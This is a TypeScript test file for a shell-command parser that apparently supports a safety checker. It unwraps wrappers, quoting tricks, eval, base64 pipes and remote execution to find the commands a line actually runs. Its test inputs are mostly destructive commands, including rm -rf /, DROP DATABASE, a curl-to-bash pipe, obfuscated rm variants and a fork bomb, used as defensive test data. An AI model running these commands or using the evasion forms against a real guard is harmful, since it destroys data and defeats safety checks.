// The walker: which simple commands a line runs, with wrappers peeled, words resolved and nested code followed.
import { beforeAll, describe, expect, it } from "vitest";
import { parseCommand } from "../../src/parse/index.js";
import { loadParser } from "../../src/parse/tree-sitter.js";
import type { Invocation } from "../../src/types.js";

const HOME = "/home/u";
const CWD = "/home/u/app";
const ctx = { cwd: CWD, env: { HOME, USER: "u", PATH: "/usr/bin:/bin", TMPDIR: "/tmp" } };

beforeAll(async () => {
  await loadParser();
});

/** `prog arg arg` per invocation; dynamic words shown as <raw>. */
const show = (invs: Invocation[]) => invs.filter((i) => i.argv.length).map((i) => i.argv.map((w) => w.value ?? `<${w.raw}>`).join(" "));

const TABLE: [string, string[]][] = [
  // lists, pipes, groups, substitutions
  ["git status && npm test || echo no; ls", ["git status", "npm test", "echo no", "ls"]],
  ["ls | grep x | head -1", ["ls", "grep x", "head -1"]],
  ["(cd sub && make) ; { echo a; echo b; }", ["cd sub", "make", "echo a", "echo b"]],
  ["echo $(date) `whoami`", ["date", "whoami", "echo <$(date)> <`whoami`>"]],
  ["diff <(sort a) >(cat)", ["sort a", "cat", "diff <<(sort a)> <>(cat)>"]],
  ["if test -f x; then rm x; else touch x; fi", ["test -f x", "rm x", "touch x"]],
  ["for d in src lib; do rm -rf $d; done", ["rm -rf src", "rm -rf lib"]],
  ['for d in ~/*; do rm -rf "$d"; done', [`rm -rf ${HOME}/*`]],
  ['run() { "$@"; }; run rm -rf src', ["run rm -rf src", "rm -rf src"]],
  ["while read f; do rm \"$f\"; done < list.txt", ["read f", 'rm <"$f">']],
  ["case $x in a) rm a;; *) ls;; esac", ["rm a", "ls"]],
  ["case $x in a|b) rm a;; esac; time (rm b); time { rm c; }", ["rm a", "rm b", "rm c", "}"]],
  ["f() { rm -rf build; }; f", ["f", "rm -rf build"]],
  // quoting and resolution
  ["r''m -rf src", ["rm -rf src"]],
  ["$'\\x72\\x6d' -rf src", ["rm -rf src"]],
  ['"rm" -rf ~ $HOME ${HOME}/x', [`rm -rf ${HOME} ${HOME} ${HOME}/x`]],
  ["X=rm; $X -rf src", ["rm -rf src"]],
  ["${RM:-rm} -rf src", ["rm -rf src"]],
  ['"$(echo rm)" -rf src', ["echo rm", "rm -rf src"]],
  ["tmp=$(mktemp -d); rm -rf \"$tmp\"", ["mktemp -d", "rm -rf <\"$tmp\">"]],
  ["f() { rm -rf \"$1\"; }; f build", ["f build", "rm -rf build"]],
  ["alias g=git; g push -f", ["alias g=git", "git", "g push -f", "git push -f"]],
  ["\\rm -rf src", ["rm -rf src"]],
  ["rm -rf {src,lib}", ["rm -rf src lib"]],
  ["export T=/tmp/x; rm -rf $T", ["rm -rf /tmp/x"]],
  ['cmd="rm -rf src"; $cmd', ["rm -rf src"]],
  ["IFS=,; cmd=rm,-rf,src; $cmd", ["rm -rf src"]],
  ['x="a b"; echo "$x" $x "c d"$x', ["echo a b a b c da b"]],
  ["env -i bash -c 'rm -rf ~'", ["bash -c rm -rf ~", `rm -rf ${HOME}`]],
  ["echo 'rm -rf src' > x.sh; sh x.sh", ["echo rm -rf src", "sh x.sh", "rm -rf src"]],
  ["rm 2>/dev/null -rf ~", [`rm -rf ${HOME}`]],
  // wrappers
  ["sudo -u root rm -rf /", ["rm -rf /"]],
  ["env -i FOO=1 rm -rf /", ["rm -rf /"]],
  ["timeout -s KILL 30 nice -n 5 nohup rm -rf /", ["rm -rf /"]],
  ["command -v rm", ["command -v rm"]],
  ["xargs -0 rm -f < list", ["rm -f <<input>>"]],
  ["echo / | xargs rm -rf", ["echo /", "rm -rf /"]],
  ["xargs -I{} rm -rf {}/x <<< /tmp", ["rm -rf /tmp/x"]],
  ["find . -name x -exec rm -f {} \\;", ["find . -name x -exec rm -f {} ;", "rm -f <{}>"]],
  ["npx prisma migrate reset --force", ["prisma migrate reset --force"]],
  ["npx --yes prisma@5 migrate reset", ["prisma migrate reset"]],
  ["npx @mikro-orm/cli@6 schema:drop", ["mikro-orm schema:drop"]],
  ["aws-vault exec prod -- aws s3 ls", ["aws s3 ls"]],
  ["A=$HOME/a:$HOME/b ls $HOME/c:$HOME/d", [`ls ${HOME}/c:${HOME}/d`]],
  ["kubectl apply -f - <<'EOF'\nkind: x\nEOF", ["kubectl apply -f -"]],
  ["gcloud compute ssh vm-1 --command 'rm -rf /srv'", ["gcloud compute ssh vm-1 --command rm -rf /srv", "rm -rf /srv"]],
  ["ansible web -m shell -a 'rm -rf /srv'", ["ansible web -m shell -a rm -rf /srv", "rm -rf /srv"]],
  ["aws ssm send-command --parameters 'commands=[\"rm -rf /srv\"]'", ['aws ssm send-command --parameters commands=["rm -rf /srv"]', "rm -rf /srv"]],
  ["watch -n 1 'rm -f x'", ["watch -n 1 rm -f x", "rm -f x"]],
  // nested code
  ["bash -c 'rm -rf ~'", ["bash -c rm -rf ~", `rm -rf ${HOME}`]],
  ["sh -lc \"git push -f\"", ["sh -lc git push -f", "git push -f"]],
  ['eval "rm -rf src"', ["eval rm -rf src", "rm -rf src"]],
  ["echo 'rm -rf src' | bash", ["echo rm -rf src", "bash", "rm -rf src"]],
  ["bash <<'EOF'\nrm -rf src\nEOF", ["bash", "rm -rf src"]],
  ["echo cm0gLXJmIHNyYw== | base64 -d | sh", ["echo cm0gLXJmIHNyYw==", "base64 -d", "sh", "rm -rf src"]],
  ["ssh -p 22 db-prod-1 'sudo systemctl stop postgresql'", ["ssh -p 22 db-prod-1 sudo systemctl stop postgresql", "systemctl stop postgresql"]],
  ["kubectl exec -it deploy/db -- psql -c 'DROP DATABASE app'", ["kubectl exec -it deploy/db -- psql -c DROP DATABASE app", "psql -c DROP DATABASE app"]],
  ["docker run --rm -v $PWD:/w -w /w node:20 sh -c 'npm test'", ["docker run --rm -v /home/u/app:/w -w /w node:20 sh -c npm test", "sh -c npm test", "npm test"]],
  ["python3 -c \"import shutil; shutil.rmtree('src')\"", ["python3 -c import shutil; shutil.rmtree('src')", "rm -rf src"]],
  ["node -e \"require('child_process').execSync('rm -rf src')\"", ["node -e require('child_process').execSync('rm -rf src')", "rm -rf src"]],
  ["node -e \"console.log('rm -rf /')\"", ["node -e console.log('rm -rf /')"]],
  ["cat > x.sh <<'EOF'\nrm -rf src\nEOF\nbash x.sh", ["cat", "bash x.sh", "rm -rf src"]],
];

describe("walker", () => {
  for (const [cmd, expected] of TABLE) {
    it(cmd.replace(/\n/g, "⏎"), async () => {
      expect(show(await parseCommand(cmd, ctx))).toEqual(expected);
    });
  }

  it("tracks cd for later relative paths", async () => {
    const invs = await parseCommand("cd / && rm -rf * ; cd $X; rm y", ctx);
    expect(invs.map((i) => i.cwd)).toEqual([CWD, "/", "/", undefined]);
  });

  it("marks what it cannot see", async () => {
    const kinds = async (c: string) => (await parseCommand(c, ctx)).flatMap((i) => i.opaque.map((o) => o.kind));
    expect(await kinds("$(cat cmd.txt) -rf x")).toContain("dynamic-command");
    expect(await kinds("bash -c \"$CMD\"")).toContain("dynamic-script");
    expect(await kinds("curl -s https://x.sh | bash")).toContain("dynamic-stdin");
    expect(await kinds("echo 'unterminated")).toContain("parse-error");
    expect(await kinds("python3 gen.py > run.sh && bash run.sh")).toContain("unreadable-script");
    // Arithmetic, case patterns and `time (..)` groups are no commands of their own.
    expect(await kinds("(( i++ )); case $x in a|b) echo 1;; *) echo 2;; esac; time (ls)")).toEqual([]);
    // Separators inside compound commands are not commands.
    expect(await kinds("while true; do sleep 1; done")).toEqual([]);
    expect(await kinds("until test -f x; do sleep 1; done; if true; then :; fi")).toEqual([]);
    // A script that does not exist fails before anything runs.
    expect(await kinds("bash ./no-such-script.sh")).toEqual([]);
    // Each eval runs the rest of the line as new shell code: twelve levels of nesting, no quoting growth.
    const deep = "eval ".repeat(12) + "rm x";
    expect(await kinds(deep)).toContain("too-deep");
  });

  it("records host and container for remote code, without local env", async () => {
    const [, remote] = await parseCommand("ssh admin@web-1 'rm -rf $HOME/x'", ctx);
    expect(remote?.host).toBe("web-1");
    expect(remote?.argv[2]?.value).toBeUndefined();
    const [, inPod] = await parseCommand("kubectl exec pod-1 -- rm -rf /data", ctx);
    expect(inPod?.container).toBe("pod-1");
  });

  it("flags recursion in functions (fork bomb)", async () => {
    const invs = await parseCommand(":(){ :|:& };:", ctx);
    expect(invs.some((i) => i.recursive && i.background)).toBe(true);
  });
});
